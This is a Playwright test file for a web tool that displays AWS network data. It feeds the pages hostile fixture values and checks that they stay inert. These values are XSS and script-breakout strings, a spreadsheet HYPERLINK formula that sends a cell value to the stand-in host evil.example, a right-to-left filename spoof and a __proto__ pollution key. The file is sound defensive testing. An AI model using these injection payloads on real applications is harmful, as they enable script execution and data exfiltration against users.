import { mkdir, writeFile } from "node:fs/promises";
import { dirname } from "node:path";
import { test as base, expect } from "./fixtures";
import { DataTable } from "./pages/data-table";
import { Shell } from "./pages/shell";
import { startProduct } from "./processes";

const VPC = "vpc-0123456789abcdef0";
const SUBNET = "subnet-0123456789abcdef0";
const NODE = "i-0123456789abcdef0";
const ENI = "eni-0123456789abcdef0";

const SCRIPT = `<img src=x onerror="window.__ran=1"><script>window.__ran=1</script>`;
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open")`;
const BREAKOUT = `"};window.__ran=1;//</script><svg/onload=window.__ran=1>`;
const RIGHT_TO_LEFT = "\u202etxt.exe\u0000\u2028";

const tags = (name: string) => [
  { Key: "Name", Value: name },
  { Key: "kubernetes.io/cluster/</script><script>window.__ran=1</script>", Value: "owned" },
  { Key: "__proto__", Value: SCRIPT },
  { Key: "eks:cluster-name", Value: SCRIPT },
];

/** What another person may have written into names, tags and descriptions. */
const CAPTURE = {
  Vpcs: [{ VpcId: VPC, CidrBlock: "10.0.0.0/16", State: "available", Tags: tags(FORMULA) }],
  Subnets: [
    {
      SubnetId: SUBNET,
      VpcId: VPC,
      CidrBlock: "10.0.0.0/24",
      AvailableIpAddressCount: 249,
      AvailabilityZone: `eu-west-1a${SCRIPT}`,
      State: "available",
      Tags: tags(FORMULA),
    },
  ],
  NetworkInterfaces: [
    {
      NetworkInterfaceId: ENI,
      VpcId: VPC,
      SubnetId: SUBNET,
      Status: "in-use",
      InterfaceType: BREAKOUT,
      Description: SCRIPT,
      PrivateIpAddresses: [
        { Primary: true, PrivateIpAddress: "10.0.0.10" },
        { Primary: false, PrivateIpAddress: "10.0.0.11" },
      ],
      Attachment: { InstanceId: NODE, DeviceIndex: 0, Status: "attached", AttachTime: "2026-01-01T00:00:00Z" },
      TagSet: tags(RIGHT_TO_LEFT),
    },
  ],
  Reservations: [
    {
      Instances: [
        {
          InstanceId: NODE,
          InstanceType: BREAKOUT,
          SubnetId: SUBNET,
          VpcId: VPC,
          PrivateIpAddress: "10.0.0.10",
          PrivateDnsName: SCRIPT,
          State: { Name: "running" },
          Tags: tags(BREAKOUT),
        },
      ],
    },
  ],
};

const test = base.extend({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures needed from the pattern
  baseURL: async ({}, use, testInfo) => {
    const path = testInfo.outputPath("hostile.json");
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, JSON.stringify(CAPTURE));
    const product = await startProduct({ ENISCOPE_SOURCE: `file:${path}` });
    await use(product.url);
    await product.stop();
  },
});

test("names, tags and descriptions stay text on every page", async ({ page }) => {
  const shell = new Shell(page);
  const pages = ["/", `/vpcs/${VPC}`, `/subnets/${SUBNET}?address=10.0.0.10`, `/nodes/${NODE}`, "/search?q=window"];
  for (const path of pages) {
    await page.goto(path);
    await expect(shell.heading, path).toBeVisible();
    await shell.find("window");
    await expect(shell.results.or(page.getByText(/Nothing found/)).first(), path).toBeVisible();
    await page.waitForLoadState("networkidle");
    expect(await page.evaluate(() => "__ran" in window), path).toBe(false);
    expect(await page.locator("main img, main svg[onload], body script:not([nonce]):not([src])").count(), path).toBe(0);
  }
  await page.goto(`/nodes/${NODE}`);
  await expect(page.getByRole("main")).toContainText("onerror=");
});

test("a cell that looks like a formula is exported as text", async ({ page }) => {
  await page.goto(`/vpcs/${VPC}`);
  const csv = await new DataTable(page, "Subnets").export("CSV");
  expect(csv.text).toContain("HYPERLINK");
  for (const cell of csv.text.split(/[\r\n,]+/)) expect(cell).not.toMatch(/^"?[=+\-@\t]/);
});

test("a tag's name cannot change what all objects are", async ({ request }) => {
  await expect.poll(async () => (await request.get(`/api/nodes/${NODE}`)).status()).toBe(200);
  const { data } = await (await request.get(`/api/nodes/${NODE}`)).json();
  expect(Object.getOwnPropertyNames(data.tags)).toContain("__proto__");
  expect(data.instanceType).toBe(BREAKOUT);
});
